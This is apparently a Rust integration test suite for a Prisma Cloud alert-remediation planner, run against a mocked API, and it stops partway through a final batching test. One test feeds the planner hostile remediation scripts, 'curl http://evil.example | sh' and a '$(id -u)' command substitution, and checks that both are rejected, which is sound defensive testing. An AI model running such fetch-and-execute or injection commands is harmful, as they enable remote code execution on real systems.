//! The Prisma Cloud planner against an HTTP mock of the Prisma Cloud API on
//! loopback (wiremock; no public sandbox exists): login, token refresh,
//! re-login on 401, 429 and 5xx retries, timeouts, per-alert isolation of a
//! refused batch, missing scripts, hostile scripts, batching of a burst, and
//! secrets kept out of every output.
#![cfg(feature = "prisma")]

mod support;

use remediation::engine::{
    AuditDecision, AuditSink, Engine, EngineConfig, JsonLinesAudit, MemoryAudit, SettleAction,
    TeeAudit,
};
use remediation::executor::ContextMap;
use remediation::model::{Event, decode};
use remediation::plan::{Decision, SkipReason};
use remediation::planner::RemediationPlanner;
use remediation::planner::prisma::{
    PrismaPlanner, PrismaPlannerBuilder, RemediationApi, RetryPolicy,
};
use remediation::redact::Secret;
use remediation::source::{AlertSource, FileSource, MemorySource};
use remediation::telemetry::{ApiCall, Backoff, Summary};
use remediation::{ErrorKind, Result};
use serde_json::{Value, json};
use std::collections::{HashMap, HashSet};
use std::io::Write;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, OnceLock};
use std::time::{Duration, Instant};
use support::StandIn;
use tokio_util::sync::CancellationToken;
use wiremock::matchers::{body_json, header, method, path};
use wiremock::{Mock, MockServer, Request, Respond, ResponseTemplate};

const ACCOUNT: &str = "123456789012";
const ACCESS_KEY_ID: &str = "ak-7f3e-test-id";
const SECRET_KEY: &str = "sk-Zq9-never-print-this-secret";
const TOKEN_1: &str = "tk1-Qm8v-first-session-token";
const TOKEN_2: &str = "tk2-Lp4x-second-session-token";
const TOKEN_3: &str = "tk3-Wr2n-third-session-token";
const REMEDIATION: &str = "/api/v1/permission/alert/remediation";

/// Every secret a test run must never print.
const SECRETS: &[&str] = &[SECRET_KEY, TOKEN_1, TOKEN_2, TOKEN_3];

fn ms(n: u64) -> Duration {
    Duration::from_millis(n)
}

/// Everything the library logs in this test binary, at debug level.
fn log_capture() -> &'static Arc<Mutex<Vec<u8>>> {
    static LOG: OnceLock<Arc<Mutex<Vec<u8>>>> = OnceLock::new();
    LOG.get_or_init(|| {
        let buffer = Arc::new(Mutex::new(Vec::new()));
        let writer = Arc::clone(&buffer);
        let subscriber = tracing_subscriber::fmt()
            .with_env_filter(tracing_subscriber::EnvFilter::new("debug"))
            .with_ansi(false)
            .with_writer(move || CaptureWriter(Arc::clone(&writer)))
            .finish();
        let _ = tracing::subscriber::set_global_default(subscriber);
        buffer
    })
}

struct CaptureWriter(Arc<Mutex<Vec<u8>>>);

impl Write for CaptureWriter {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// Fails if a secret shows in the captured log or in any of `outputs`.
fn assert_no_secrets(outputs: &[&str]) {
    let log = String::from_utf8_lossy(&log_capture().lock().unwrap()).into_owned();
    for secret in SECRETS {
        assert!(
            !log.contains(secret),
            "a secret leaked into the log:\n{log}"
        );
        for out in outputs {
            assert!(
                !out.contains(secret),
                "a secret leaked into an output:\n{out}"
            );
        }
    }
}

/// A flat Prisma Cloud alert notification.
fn alert_body(id: &str, policy: &str) -> String {
    json!({
        "alertId": id,
        "accountId": ACCOUNT,
        "cloudType": "aws",
        "resourceRegionId": "us-east-1",
        "policyId": policy,
        "policyName": "AWS IAM user with risky permissions",
        "severity": "high",
        "resourceId": format!("user-{id}"),
    })
    .to_string()
}

fn events(ids: &[&str]) -> Vec<Event> {
    ids.iter()
        .flat_map(|id| {
            decode(alert_body(id, "pol-a").as_bytes())
                .expect("alert")
                .events
        })
        .collect()
}

/// The command the mock API returns for alert `id`: bound to the alert's
/// user, and one that removes a grant (never a deny).
fn script_for(id: &str) -> String {
    format!(
        "aws iam detach-user-policy --user-name user-{id} \
         --policy-arn arn:aws:iam::aws:policy/AdministratorAccess"
    )
}

/// A stand-in for the remediation endpoint: answers a script for every id
/// except those in `missing`, refuses with 400 any request holding an id in
/// `bad`, returns `hostile` scripts as given, and records the ids of each call.
#[derive(Clone, Default)]
struct RemediationApiMock {
    missing: HashSet<String>,
    bad: HashSet<String>,
    hostile: HashMap<String, String>,
    calls: Arc<Mutex<Vec<Vec<String>>>>,
}

impl RemediationApiMock {
    fn calls(&self) -> Vec<Vec<String>> {
        self.calls.lock().unwrap().clone()
    }
}

impl Respond for RemediationApiMock {
    fn respond(&self, request: &Request) -> ResponseTemplate {
        let body: Value = serde_json::from_slice(&request.body).expect("JSON body");
        let ids: Vec<String> = body["alerts"]
            .as_array()
            .expect("alerts array")
            .iter()
            .map(|v| v.as_str().expect("id string").to_owned())
            .collect();
        self.calls.lock().unwrap().push(ids.clone());
        if ids.iter().any(|id| self.bad.contains(id)) {
            return ResponseTemplate::new(400)
                .set_body_json(json!({"message": "invalid alert id in request"}));
        }
        let mut scripts = serde_json::Map::new();
        for id in ids.iter().filter(|id| !self.missing.contains(*id)) {
            let script = self
                .hostile
                .get(id)
                .cloned()
                .unwrap_or_else(|| script_for(id));
            scripts.insert(id.clone(), Value::from(script));
        }
        ResponseTemplate::new(200).set_body_json(json!({
            "alertIdVsCliScript": scripts,
            "cliDescription": "Removes the risky inline policy from the user.",
        }))
    }
}

/// Answers each call with the next template of a list (the last one repeats).
struct Sequence {
    templates: Vec<ResponseTemplate>,
    next: AtomicUsize,
}

impl Sequence {
    fn new(templates: Vec<ResponseTemplate>) -> Self {
        Sequence {
            templates,
            next: AtomicUsize::new(0),
        }
    }
}

impl Respond for Sequence {
    fn respond(&self, _: &Request) -> ResponseTemplate {
        let i = self.next.fetch_add(1, Ordering::SeqCst);
        self.templates[i.min(self.templates.len() - 1)].clone()
    }
}

fn token(t: &str) -> ResponseTemplate {
    ResponseTemplate::new(200).set_body_json(json!({"token": t, "message": "login_successful"}))
}

async fn mount_login(server: &MockServer, tokens: &[&str]) {
    Mock::given(method("POST"))
        .and(path("/login"))
        .and(body_json(
            json!({"username": ACCESS_KEY_ID, "password": SECRET_KEY}),
        ))
        .respond_with(Sequence::new(tokens.iter().map(|t| token(t)).collect()))
        .mount(server)
        .await;
}

async fn mount_remediation(server: &MockServer, auth: &str, api: RemediationApiMock) {
    Mock::given(method("POST"))
        .and(path(REMEDIATION))
        .and(header("x-redlock-auth", auth))
        .respond_with(api)
        .mount(server)
        .await;
}

async fn requests_to(server: &MockServer, p: &str) -> Vec<Request> {
    server
        .received_requests()
        .await
        .expect("recording on")
        .into_iter()
        .filter(|r| r.url.path() == p)
        .collect()
}

fn builder(server: &MockServer) -> PrismaPlannerBuilder {
    log_capture();
    PrismaPlanner::builder()
        .with_endpoint(server.uri())
        .with_allow_http(true)
        .with_access_key(ACCESS_KEY_ID, Secret::new(SECRET_KEY), None)
        .with_retry(RetryPolicy::new(3, Backoff::new(ms(10), ms(40))))
        .with_batch_window(ms(10))
}

fn plan_of(d: &Result<Decision>) -> &remediation::plan::Plan {
    match d {
        Ok(Decision::Plan(p)) => p,
        other => panic!("expected a plan, got {other:?}"),
    }
}

fn argv(d: &Result<Decision>) -> Vec<String> {
    plan_of(d)
        .steps
        .iter()
        .map(|s| s.command.to_argv())
        .collect::<Vec<_>>()
        .concat()
}

fn words(script: &str) -> Vec<String> {
    script.split(' ').map(str::to_owned).collect()
}

#[tokio::test]
async fn logs_in_and_plans_a_batch_with_descriptions_and_skips() {
    let server = MockServer::start().await;
    mount_login(&server, &[TOKEN_1]).await;
    let api = RemediationApiMock {
        missing: ["P-3".to_owned()].into(),
        ..Default::default()
    };
    mount_remediation(&server, TOKEN_1, api.clone()).await;
    let planner = builder(&server).build().expect("planner");

    let mut batch = events(&["P-1", "P-2", "P-3"]);
    let cloudtrail = r#"{"eventVersion":"1.08","eventID":"e-1","eventName":"CreateUser","eventSource":"iam.amazonaws.com","awsRegion":"us-east-1","recipientAccountId":"123456789012","eventTime":"2024-01-01T00:00:00Z"}"#;
    batch.extend(decode(cloudtrail.as_bytes()).expect("cloudtrail").events);
    let decisions = planner.plan(&batch).await;

    assert_eq!(decisions.len(), 4);
    assert_eq!(argv(&decisions[0]), words(&script_for("P-1")));
    assert_eq!(argv(&decisions[1]), words(&script_for("P-2")));
    let plan = plan_of(&decisions[0]);
    assert_eq!(plan.planner, "prisma");
    assert_eq!(
        plan.description.as_deref(),
        Some("Removes the risky inline policy from the user.")
    );
    assert_eq!(plan.target.account_id.as_deref(), Some(ACCOUNT));
    for (i, why) in [
        (2, "no remediation command for alert P-3"),
        (3, "only plans Prisma Cloud alerts"),
    ] {
        match &decisions[i] {
            Ok(Decision::Skip(s)) => {
                assert_eq!(s.reason, SkipReason::NoRemediation);
                assert!(s.detail.contains(why), "{}", s.detail);
            }
            other => panic!("expected a skip, got {other:?}"),
        }
    }
    assert_eq!(
        api.calls(),
        vec![vec!["P-1".to_owned(), "P-2".into(), "P-3".into()]]
    );
    assert_eq!(requests_to(&server, "/login").await.len(), 1);
    let stats = planner.stats().snapshot();
    assert_eq!(
        (
            stats.remediation_calls,
            stats.login_calls,
            stats.max_ids_per_call
        ),
        (1, 1, 3)
    );
    assert_no_secrets(&[&format!("{planner:?}"), &format!("{decisions:?}")]);
}

#[tokio::test]
async fn alerts_of_different_policies_are_asked_in_separate_requests() {
    let server = MockServer::start().await;
    mount_login(&server, &[TOKEN_1]).await;
    let api = RemediationApiMock::default();
    mount_remediation(&server, TOKEN_1, api.clone()).await;
    let planner = builder(&server).build().expect("planner");
    let mut batch = events(&["A-1"]);
    batch.extend(
        decode(alert_body("B-1", "pol-b").as_bytes())
            .unwrap()
            .events,
    );
    batch.extend(events(&["A-2"]));
    let decisions = planner.plan(&batch).await;
    assert!(
        decisions.iter().all(|d| matches!(d, Ok(Decision::Plan(_)))),
        "{decisions:?}"
    );
    let mut calls = api.calls();
    calls.sort();
    assert_eq!(
        calls,
        vec![vec!["A-1".to_owned(), "A-2".into()], vec!["B-1".to_owned()]]
    );
}

#[tokio::test]
async fn extends_the_token_before_it_expires() {
    let server = MockServer::start().await;
    mount_login(&server, &[TOKEN_1]).await;
    Mock::given(method("GET"))
        .and(path("/auth_token/extend"))
        .and(header("x-redlock-auth", TOKEN_1))
        .respond_with(token(TOKEN_2))
        .mount(&server)
        .await;
    let api = RemediationApiMock::default();
    mount_remediation(&server, TOKEN_1, api.clone()).await;
    mount_remediation(&server, TOKEN_2, api.clone()).await;
    // Lives 2 s, refreshed once it is 300 ms old.
    let planner = builder(&server)
        .with_token_lifetime(ms(2000))
        .with_refresh_margin(ms(1700))
        .build()
        .expect("planner");

    assert!(matches!(
        planner.plan(&events(&["P-1"])).await[0],
        Ok(Decision::Plan(_))
    ));
    tokio::time::sleep(ms(400)).await;
    assert!(matches!(
        planner.plan(&events(&["P-2"])).await[0],
        Ok(Decision::Plan(_))
    ));

    let used: Vec<String> = requests_to(&server, REMEDIATION)
        .await
        .iter()
        .map(|r| {
            r.headers
                .get("x-redlock-auth")
                .unwrap()
                .to_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    assert_eq!(
        used,
        vec![TOKEN_1, TOKEN_2],
        "the second call uses the extended token"
    );
    assert_eq!(
        requests_to(&server, "/login").await.len(),
        1,
        "extended, not logged in again"
    );
    assert_eq!(requests_to(&server, "/auth_token/extend").await.len(), 1);
    let stats = planner.stats().snapshot();
    assert_eq!((stats.login_calls, stats.extend_calls), (1, 1));
    assert_no_secrets(&[]);
}

/// The engine hands the planner its stats: with no `with_engine_stats`, the
/// engine's stats count every Prisma call, those made before it was built too.
#[tokio::test]
async fn the_engines_stats_count_the_planners_calls_without_with_engine_stats() {
    let server = MockServer::start().await;
    mount_login(&server, &[TOKEN_1]).await;
    Mock::given(method("GET"))
        .and(path("/auth_token/extend"))
        .and(header("x-redlock-auth", TOKEN_1))
        .respond_with(token(TOKEN_2))
        .mount(&server)
        .await;
    let api = RemediationApiMock::default();
    mount_remediation(&server, TOKEN_1, api.clone()).await;
    mount_remediation(&server, TOKEN_2, api.clone()).await;
    // Lives 2 s, refreshed once it is 300 ms old.
    let planner = Arc::new(
        builder(&server)
            .with_token_lifetime(ms(2000))
            .with_refresh_margin(ms(1700))
            .build()
            .expect("planner"),
    );
    // Before any engine: a login and a remediation call.
    assert!(matches!(
        planner.plan(&events(&["P-1"])).await[0],
        Ok(Decision::Plan(_))
    ));
    tokio::time::sleep(ms(400)).await;
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("alerts.jsonl");
    std::fs::write(&file, alert_body("P-2", "pol-a")).unwrap();
    let standin = StandIn::new();
    let executor = standin.executor(ContextMap::new().with_aws_profile(ACCOUNT, "remediator"));
    let engine = Engine::builder(
        Arc::new(FileSource::open(&file).unwrap()),
        Arc::clone(&planner) as Arc<dyn RemediationPlanner>,
        Arc::new(executor),
    )
    .audit(Arc::new(MemoryAudit::new()))
    .build();

    let summary = engine.run(CancellationToken::new()).await.expect("run");

    assert_eq!(summary.executed, 1, "{summary:?}");
    let stats = engine.stats();
    assert_eq!(stats.api_calls(ApiCall::PrismaLogin), 1);
    assert_eq!(stats.api_calls(ApiCall::PrismaAuthTokenExtend), 1);
    assert_eq!(stats.api_calls(ApiCall::PrismaRemediation), 2);
    let own = planner.stats().snapshot();
    assert_eq!(
        (own.login_calls, own.extend_calls, own.remediation_calls),
        (1, 1, 2)
    );
}

#[tokio::test]
async fn a_401_token_expired_logs_in_again_once_and_succeeds() {
    let server = MockServer::start().await;
    mount_login(&server, &[TOKEN_1, TOKEN_2]).await;
    Mock::given(method("POST"))
        .and(path(REMEDIATION))
        .and(header("x-redlock-auth", TOKEN_1))
        .respond_with(ResponseTemplate::new(401).insert_header(
            "x-redlock-status",
            r#"[{"i18nKey":"token_expired","severity":"error"}]"#,
        ))
        .mount(&server)
        .await;
    let api = RemediationApiMock::default();
    mount_remediation(&server, TOKEN_2, api.clone()).await;
    let planner = builder(&server).build().expect("planner");

    let decisions = planner.plan(&events(&["P-1"])).await;

    assert_eq!(argv(&decisions[0]), words(&script_for("P-1")));
    assert_eq!(requests_to(&server, "/login").await.len(), 2);
    assert_eq!(requests_to(&server, REMEDIATION).await.len(), 2);
    // The capture works (so the secret checks over it mean something).
    let log = String::from_utf8_lossy(&log_capture().lock().unwrap()).into_owned();
    assert!(log.contains("token_expired"), "{log}");
    assert_no_secrets(&[]);
}

#[tokio::test]
async fn a_401_after_a_fresh_login_and_a_403_are_setup_errors_that_do_not_spin() {
    for (status, kind) in [
        (401, ErrorKind::Unauthenticated),
        (403, ErrorKind::PermissionDenied),
    ] {
        let server = MockServer::start().await;
        mount_login(&server, &[TOKEN_1, TOKEN_2]).await;
        Mock::given(method("POST"))
            .and(path(REMEDIATION))
            .respond_with(ResponseTemplate::new(status))
            .mount(&server)
            .await;
        let planner = builder(&server).build().expect("planner");

        let first = planner.plan(&events(&["P-1", "P-2"])).await;
        let calls_after_first = requests_to(&server, REMEDIATION).await.len();
        let second = planner.plan(&events(&["P-3"])).await;

        for d in first.iter().chain(&second) {
            let e = d.as_ref().expect_err("setup error");
            assert_eq!(e.kind(), kind, "{e}");
            assert!(e.is_setup_problem(), "{e}");
            assert!(!e.is_temporary());
            assert!(e.to_string().contains(&format!("HTTP {status}")), "{e}");
        }
        // 401: one re-login, then refused; 403: refused at once.
        let expected = if status == 401 { 2 } else { 1 };
        assert_eq!(calls_after_first, expected, "HTTP {status}");
        assert_eq!(
            requests_to(&server, REMEDIATION).await.len(),
            expected,
            "HTTP {status}: the second plan must not ask the API again during the cooldown"
        );
        assert_eq!(requests_to(&server, "/login").await.len(), expected);
        assert_no_secrets(&[&format!("{first:?}{second:?}")]);
    }
}

#[tokio::test]
async fn a_refused_login_is_a_setup_error() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/login"))
        .respond_with(
            ResponseTemplate::new(401).set_body_json(json!({"message": "invalid_credentials"})),
        )
        .mount(&server)
        .await;
    let planner = builder(&server).build().expect("planner");
    let decisions = planner.plan(&events(&["P-1"])).await;
    let e = decisions[0].as_ref().expect_err("refused");
    assert_eq!(e.kind(), ErrorKind::Unauthenticated);
    assert!(e.is_setup_problem(), "{e}");
    assert!(e.to_string().contains("PRISMA_ACCESS_KEY_ID"), "{e}");
    assert!(requests_to(&server, REMEDIATION).await.is_empty());
}

#[tokio::test]
async fn a_429_waits_as_retry_after_says_then_succeeds() {
    let server = MockServer::start().await;
    mount_login(&server, &[TOKEN_1]).await;
    let limited = ResponseTemplate::new(429)
        .insert_header("Retry-After", "1")
        .insert_header("X-RateLimit-Remaining", "0")
        .insert_header("X-RateLimit-Replenish-Rate", "1")
        .insert_header("X-RateLimit-Requested-Tokens", "1");
    let ok = ResponseTemplate::new(200).set_body_json(json!({
        "alertIdVsCliScript": {"P-1": script_for("P-1")},
    }));
    Mock::given(method("POST"))
        .and(path(REMEDIATION))
        .respond_with(Sequence::new(vec![limited, ok]))
        .mount(&server)
        .await;
    let planner = builder(&server).build().expect("planner");

    let started = Instant::now();
    let decisions = planner.plan(&events(&["P-1"])).await;
    let waited = started.elapsed();

    assert_eq!(argv(&decisions[0]), words(&script_for("P-1")));
    // The backoff alone would be ~10 ms: only Retry-After explains a second.
    assert!(
        waited >= ms(950),
        "retried after {waited:?}, before Retry-After"
    );
    let stats = planner.stats().snapshot();
    assert_eq!(
        (stats.rate_limited, stats.retries, stats.remediation_calls),
        (1, 1, 2)
    );
}

#[tokio::test]
async fn rate_limit_headers_alone_set_the_pace() {
    let server = MockServer::start().await;
    mount_login(&server, &[TOKEN_1]).await;
    // No Retry-After: 1 token at 4 per second refills in 250 ms.
    let limited = ResponseTemplate::new(429)
        .insert_header("X-RateLimit-Remaining", "0")
        .insert_header("X-RateLimit-Replenish-Rate", "4")
        .insert_header("X-RateLimit-Requested-Tokens", "1");
    let ok = ResponseTemplate::new(200).set_body_json(json!({
        "alertIdVsCliScript": {"P-1": script_for("P-1")},
    }));
    Mock::given(method("POST"))
        .and(path(REMEDIATION))
        .respond_with(Sequence::new(vec![limited, ok]))
        .mount(&server)
        .await;
    let planner = builder(&server).build().expect("planner");
    let started = Instant::now();
    let decisions = planner.plan(&events(&["P-1"])).await;
    assert!(
        matches!(decisions[0], Ok(Decision::Plan(_))),
        "{decisions:?}"
    );
    assert!(
        started.elapsed() >= ms(240),
        "retried after {:?}",
        started.elapsed()
    );
    assert_eq!(planner.stats().snapshot().rate_limited, 1);
}

#[tokio::test]
async fn server_errors_are_retried_up_to_the_bound_then_fail_temporarily() {
    let server = MockServer::start().await;
    mount_login(&server, &[TOKEN_1]).await;
    Mock::given(method("POST"))
        .and(path(REMEDIATION))
        .respond_with(ResponseTemplate::new(500).set_body_string("upstream exploded"))
        .mount(&server)
        .await;
    let planner = builder(&server).build().expect("planner");

    let decisions = planner.plan(&events(&["P-1", "P-2"])).await;

    for d in &decisions {
        let e = d.as_ref().expect_err("outage");
        assert!(e.is_temporary(), "{e}");
        assert!(e.to_string().contains("after 4 attempts"), "{e}");
        assert!(e.to_string().contains("500"), "{e}");
    }
    assert_eq!(
        requests_to(&server, REMEDIATION).await.len(),
        4,
        "1 attempt + 3 retries"
    );
    assert_eq!(planner.stats().snapshot().retries, 3);
}

#[tokio::test]
async fn server_errors_then_success_plan_normally() {
    let server = MockServer::start().await;
    mount_login(&server, &[TOKEN_1]).await;
    let ok = ResponseTemplate::new(200).set_body_json(json!({
        "alertIdVsCliScript": {"P-1": script_for("P-1")},
    }));
    Mock::given(method("POST"))
        .and(path(REMEDIATION))
        .respond_with(Sequence::new(vec![
            ResponseTemplate::new(503),
            ResponseTemplate::new(502),
            ok,
        ]))
        .mount(&server)
        .await;
    let planner = builder(&server).build().expect("planner");
    let decisions = planner.plan(&events(&["P-1"])).await;
    assert_eq!(argv(&decisions[0]), words(&script_for("P-1")));
    assert_eq!(planner.stats().snapshot().retries, 2);
}

#[tokio::test]
async fn timeouts_are_retried_then_fail_temporarily() {
    let server = MockServer::start().await;
    mount_login(&server, &[TOKEN_1]).await;
    Mock::given(method("POST"))
        .and(path(REMEDIATION))
        .respond_with(RemediationApiMock::default().respond_delayed(ms(2000)))
        .mount(&server)
        .await;
    let planner = builder(&server)
        .with_request_timeout(ms(150))
        .with_retry(RetryPolicy::new(1, Backoff::new(ms(10), ms(20))))
        .build()
        .expect("planner");
    let decisions = planner.plan(&events(&["P-1"])).await;
    let e = decisions[0].as_ref().expect_err("timed out");
    assert!(e.is_temporary(), "{e}");
    assert!(e.to_string().contains("timed out"), "{e}");
    assert!(e.to_string().contains("after 2 attempts"), "{e}");
    let stats = planner.stats().snapshot();
    assert_eq!((stats.remediation_calls, stats.retries), (2, 1));
}

/// A responder that answers like the mock, late.
struct Delayed(RemediationApiMock, Duration);

impl RemediationApiMock {
    fn respond_delayed(self, by: Duration) -> Delayed {
        Delayed(self, by)
    }
}

impl Respond for Delayed {
    fn respond(&self, request: &Request) -> ResponseTemplate {
        self.0.respond(request).set_delay(self.1)
    }
}

#[tokio::test]
async fn connection_errors_are_temporary() {
    log_capture();
    // A port nothing listens on: bind, note the port, close.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let planner = PrismaPlanner::builder()
        .with_endpoint(format!("http://127.0.0.1:{port}"))
        .with_allow_http(true)
        .with_token(Secret::new(TOKEN_1))
        .with_retry(RetryPolicy::new(2, Backoff::new(ms(5), ms(10))))
        .build()
        .expect("planner");
    let decisions = planner.plan(&events(&["P-1"])).await;
    let e = decisions[0].as_ref().expect_err("nothing listens");
    assert!(e.is_temporary(), "{e}");
    assert_eq!(planner.stats().snapshot().remediation_calls, 3);
    assert_no_secrets(&[&e.to_string()]);
}

#[tokio::test]
async fn a_400_for_a_batch_is_asked_again_alert_by_alert() {
    let server = MockServer::start().await;
    mount_login(&server, &[TOKEN_1]).await;
    let api = RemediationApiMock {
        bad: ["P-BAD".to_owned()].into(),
        ..Default::default()
    };
    mount_remediation(&server, TOKEN_1, api.clone()).await;
    let planner = builder(&server).build().expect("planner");

    let decisions = planner.plan(&events(&["P-1", "P-BAD", "P-2"])).await;

    assert_eq!(argv(&decisions[0]), words(&script_for("P-1")));
    assert_eq!(argv(&decisions[2]), words(&script_for("P-2")));
    let e = decisions[1].as_ref().expect_err("refused alert");
    assert!(!e.is_temporary(), "a refused alert is not an outage: {e}");
    assert_ne!(e.kind(), ErrorKind::Config);
    assert!(e.to_string().contains("refused alert P-BAD"), "{e}");
    let calls = api.calls();
    assert_eq!(calls.len(), 4, "{calls:?}");
    assert_eq!(calls[0].len(), 3);
    assert!(calls[1..].iter().all(|c| c.len() == 1), "{calls:?}");
    assert_eq!(planner.stats().snapshot().batch_splits, 1);
}

#[tokio::test]
async fn the_v2_endpoint_plans_one_alert_per_request() {
    let server = MockServer::start().await;
    mount_login(&server, &[TOKEN_1]).await;
    Mock::given(method("GET"))
        .and(path("/iam/api/v2/alert/P-1/remediation_command"))
        .and(header("x-redlock-auth", TOKEN_1))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "cliCommand": script_for("P-1"),
            "cliDescription": "v2 description",
        })))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path("/iam/api/v2/alert/P-2/remediation_command"))
        .respond_with(ResponseTemplate::new(404))
        .mount(&server)
        .await;
    let planner = builder(&server)
        .with_api(RemediationApi::V2PerAlert)
        .build()
        .expect("planner");
    let decisions = planner.plan(&events(&["P-1", "P-2", "P-1"])).await;
    assert_eq!(argv(&decisions[0]), words(&script_for("P-1")));
    assert_eq!(
        plan_of(&decisions[0]).description.as_deref(),
        Some("v2 description")
    );
    assert_eq!(argv(&decisions[2]), words(&script_for("P-1")));
    assert!(
        matches!(&decisions[1], Ok(Decision::Skip(s)) if s.reason == SkipReason::NoRemediation)
    );
    assert_eq!(
        planner.stats().snapshot().remediation_calls,
        2,
        "the duplicate id shares a request"
    );
}

/// Runs `source` through the engine with `planner` and the recording stand-in for `aws`.
async fn run_engine(
    planner: Arc<PrismaPlanner>,
    source: Arc<dyn AlertSource>,
    standin: &StandIn,
    sinks: Vec<Arc<dyn AuditSink>>,
    config: EngineConfig,
    cancel: CancellationToken,
) -> Summary {
    let executor = standin.executor(ContextMap::new().with_aws_profile(ACCOUNT, "remediator"));
    let engine = Engine::builder(source, planner, Arc::new(executor))
        .config(config)
        .audit(Arc::new(TeeAudit::new(sinks)))
        .build();
    engine.run(cancel).await.expect("engine run")
}

#[tokio::test]
async fn a_hostile_script_from_the_api_is_rejected_and_nothing_runs() {
    let server = MockServer::start().await;
    mount_login(&server, &[TOKEN_1]).await;
    let api = RemediationApiMock {
        hostile: [
            (
                "P-EVIL".to_owned(),
                "aws s3api list-buckets; curl http://evil.example | sh".to_owned(),
            ),
            (
                "P-SUB".to_owned(),
                "aws iam delete-login-profile --user-name $(id -u)".to_owned(),
            ),
        ]
        .into(),
        ..Default::default()
    };
    mount_remediation(&server, TOKEN_1, api).await;
    let planner = Arc::new(builder(&server).build().expect("planner"));
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("alerts.jsonl");
    let lines: Vec<String> = ["P-EVIL", "P-OK", "P-SUB"]
        .iter()
        .map(|id| alert_body(id, "pol-a"))
        .collect();
    std::fs::write(&file, lines.join("\n")).unwrap();
    let standin = StandIn::new();
    let audit = Arc::new(MemoryAudit::new());

    let summary = run_engine(
        planner,
        Arc::new(FileSource::open(&file).unwrap()),
        &standin,
        vec![audit.clone()],
        EngineConfig::default(),
        CancellationToken::new(),
    )
    .await;

    assert_eq!((summary.executed, summary.rejected), (1, 2), "{summary:?}");
    for r in audit.records() {
        match r.alert_id.as_deref() {
            Some("P-OK") => assert_eq!(r.decision, AuditDecision::Executed),
            Some("P-EVIL" | "P-SUB") => {
                assert_eq!(r.decision, AuditDecision::Rejected, "{r:?}");
                assert_eq!(r.reason_code.as_deref(), Some("unsafe_command"));
                assert_eq!(r.settle, SettleAction::DeadLetter);
                // A pipe, a command substitution: shell syntax, whatever the operations.
                let reason = r.reason.as_deref().unwrap_or_default();
                assert!(reason.contains("unsafe_command: shell_syntax: "), "{r:?}");
            }
            other => panic!("unexpected record for {other:?}"),
        }
    }
    let ran: Vec<Vec<String>> = standin.calls().into_iter().map(|c| c.argv).collect();
    assert_eq!(
        ran,
        vec![words(&script_for("P-OK"))],
        "only the safe script ran"
    );
}

#[tokio::test]
async fn an_api_outage_is_nacked_again_and_again_never_dead_lettered() {
    let server = MockServer::start().await;
    mount_login(&server, &[TOKEN_1]).await;
    Mock::given(method("POST"))
        .and(path(REMEDIATION))
        .respond_with(ResponseTemplate::new(503))
        .mount(&server)
        .await;
    let planner = Arc::new(
        builder(&server)
            .with_retry(RetryPolicy::new(1, Backoff::new(ms(5), ms(10))))
            .build()
            .expect("planner"),
    );
    let source = Arc::new(MemorySource::builder().with_wait(ms(20)).build());
    source.send(alert_body("P-1", "pol-a")).await.unwrap();
    let standin = StandIn::new();
    let audit = Arc::new(MemoryAudit::new());
    let cancel = CancellationToken::new();
    let config = EngineConfig::default()
        .with_max_deliveries(2)
        .with_retry(Backoff::new(ms(20), ms(40)));

    let stopper = {
        let audit = audit.clone();
        let cancel = cancel.clone();
        tokio::spawn(async move {
            let deadline = Instant::now() + Duration::from_secs(15);
            while audit.records().len() < 4 && Instant::now() < deadline {
                tokio::time::sleep(ms(20)).await;
            }
            cancel.cancel();
        })
    };
    run_engine(
        planner,
        source.clone(),
        &standin,
        vec![audit.clone()],
        config,
        cancel,
    )
    .await;
    stopper.await.unwrap();

    let records = audit.records();
    assert!(records.len() >= 4, "delivered {} times", records.len());
    for r in &records {
        assert_eq!(r.decision, AuditDecision::Failed, "{r:?}");
        assert_eq!(
            r.reason_code.as_deref(),
            Some("planner_unavailable"),
            "{r:?}"
        );
        assert_eq!(r.settle, SettleAction::Nack, "{r:?}");
    }
    assert!(
        records.iter().any(|r| r.delivery_count > 2),
        "beyond max_deliveries"
    );
    assert!(
        source.dead_letters().is_empty(),
        "an outage must not park the alert"
    );
    assert!(standin.calls().is_empty());
}

#[tokio::test]
async fn a_burst_of_500_alerts_is_batched_and_each_alert_runs_once() {
    let server = MockServer::start().await;
    mount_login(&server, &[TOKEN_1]).await;
    let api = RemediationApiMock::default();
    mount_remediation(&server, TOKEN_1, api.clone()).await;
    let planner = Arc::new(
        builder(&server)
            .with_max_batch(50)
            .with_batch_window(ms(25))
            .build()
            .expect("planner"),
    );
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("burst.jsonl");
    let ids: Vec<String> = (0..500).map(|n| format!("P-{n:04}")).collect();
    // One policy, as when a newly enabled policy fires on a whole estate
    // (alerts of k policies cost up to k requests per collection window).
    let lines: Vec<String> = ids.iter().map(|id| alert_body(id, "pol-burst")).collect();
    std::fs::write(&file, lines.join("\n") + "\n").unwrap();
    let audit_path = dir.path().join("audit.jsonl");
    let standin = StandIn::new();

    let summary = run_engine(
        Arc::clone(&planner),
        Arc::new(FileSource::open(&file).unwrap()),
        &standin,
        vec![Arc::new(JsonLinesAudit::append(&audit_path).unwrap())],
        EngineConfig::default()
            .with_concurrency(128)
            .with_receive_batch(10),
        CancellationToken::new(),
    )
    .await;

    let stats = planner.stats().snapshot();
    println!(
        "burst of 500: {} remediation API calls, {:.1} ids per call, at most {} per call",
        stats.remediation_calls, stats.ids_per_call, stats.max_ids_per_call
    );
    assert_eq!(summary.executed, 500, "{summary:?}");
    assert!(
        stats.remediation_calls <= 60,
        "{} calls for 500 alerts",
        stats.remediation_calls
    );
    assert_eq!(
        api.calls().iter().map(Vec::len).sum::<usize>(),
        500,
        "each id asked once"
    );
    let mut ran: HashMap<Vec<String>, usize> = HashMap::new();
    for call in standin.calls() {
        assert_eq!(call.var("AWS_PROFILE"), Some("remediator"));
